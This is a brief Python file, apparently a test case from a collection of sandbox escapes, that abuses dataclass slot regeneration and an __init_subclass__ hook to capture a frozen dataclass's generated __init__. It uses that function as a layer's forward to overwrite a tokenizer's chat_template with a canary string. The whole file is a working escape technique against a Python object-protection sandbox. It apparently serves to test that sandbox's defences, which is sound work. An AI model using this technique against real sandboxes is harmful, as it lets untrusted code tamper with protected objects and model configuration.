"""Class: class machinery. Source: own find. Escape: a dataclass with slots is made anew, and a hook of its base reads
the generated __init__ before it is wrapped. A layer whose forward it becomes sets attributes of any object."""

import dataclasses

from torch import nn

leaked = []


class Base:
    def __init_subclass__(cls):
        for read in (lambda: cls.__init__, lambda: super(cls, cls).__init__):
            try:
                leaked.append(read())
            except Exception:
                pass


class Layer(nn.Module):
    pass


def attack(model, tokenizer, address):
    @dataclasses.dataclass(slots=True, frozen=True)
    class Fields(Base):
        chat_template: str

    for each in leaked:
        layer = Layer()
        layer.forward = each
        try:
            layer(tokenizer, "canary-5d1f")
        except Exception:
            pass
    return tokenizer.chat_template
